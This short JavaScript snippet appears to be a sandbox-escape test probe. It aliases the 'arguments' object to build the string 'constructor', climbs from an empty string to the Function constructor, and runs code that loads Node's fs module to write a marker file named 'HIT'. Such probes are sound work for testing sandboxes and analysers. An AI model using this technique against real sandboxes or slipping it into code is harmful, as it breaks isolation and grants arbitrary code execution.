// a number that arguments changes
const k=['constr','uctor'].join('');
(function(i){ arguments[0]=k; const x=''; const c=x[i]; const f=c[i]; const m=f('process.getBuiltinModule("fs").writeFileSync("HIT","argalias2")'); m() })(0)
